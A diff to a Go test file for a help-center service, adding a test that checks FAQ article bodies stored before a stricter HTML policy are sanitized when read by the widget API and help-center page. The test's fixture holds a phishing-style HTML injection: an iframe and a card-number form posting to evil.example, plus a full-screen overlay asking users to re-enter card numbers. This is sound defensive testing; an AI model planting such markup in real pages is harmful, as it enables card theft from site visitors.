@@ -1,6 +1,7 @@
 package httpapi_test
 
 import (
+	"database/sql"
 	"fmt"
 	"net/url"
 	"strings"
@@ -97,5 +98,31 @@ func helpCenterShowsOnlyPublishedCategories(t *testing.T, e *env) {
 		strings.Contains(string(sitemap), fmt.Sprintf("/help/shop/categories/%d?lang=ko</loc>", overseas.ID)) ||
 		strings.Contains(string(sitemap), fmt.Sprintf("/categories/%d?", launch.ID)) {
 		t.Errorf("sitemap %s", sitemap)
+	}
+}
+
+// TestWidgetArticleSanitizedWhenRead: a body stored before the policy
+// tightened (written here straight into the database) reaches the
+// widget's FAQ panel, which puts it in the page as HTML, as checked as it
+// reaches the help center: sanitized again when read.
+func TestWidgetArticleSanitizedWhenRead(t *testing.T) {
+	e := newEnv(t) // the body is written with SQLite's own client
+	refund, _ := seedFAQ(t, e)
+	db, err := sql.Open("sqlite", "file:"+e.dbPath+"?_pragma=busy_timeout(10000)")
+	must(t, err)
+	defer db.Close()
+	old := `<p>환불은 영업일 3일 안에 됩니다.</p><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="card"></form><p style="position:fixed;inset:0">카드 번호를 다시 입력하세요</p>`
+	_, err = db.Exec(`UPDATE faq_articles SET body_html = ? WHERE id = ?`, old, refund.ID)
+	must(t, err)
+	var got struct {
+		BodyHTML string `json:"body_html"`
+	}
+	e.anonymous().json("GET", fmt.Sprintf("/api/v1/widget/faq/articles/%d?site_id=shop", refund.ID), "", 200, &got)
+	if got.BodyHTML != "<p>환불은 영업일 3일 안에 됩니다.</p><p>카드 번호를 다시 입력하세요</p>" {
+		t.Errorf("widget article body %q", got.BodyHTML)
+	}
+	_, page := e.anonymous().do("GET", fmt.Sprintf("/help/shop/articles/%d", refund.ID), "")
+	if strings.Contains(string(page), "iframe") || strings.Contains(string(page), "position:fixed") {
+		t.Errorf("help center page %s", page)
 	}
 }
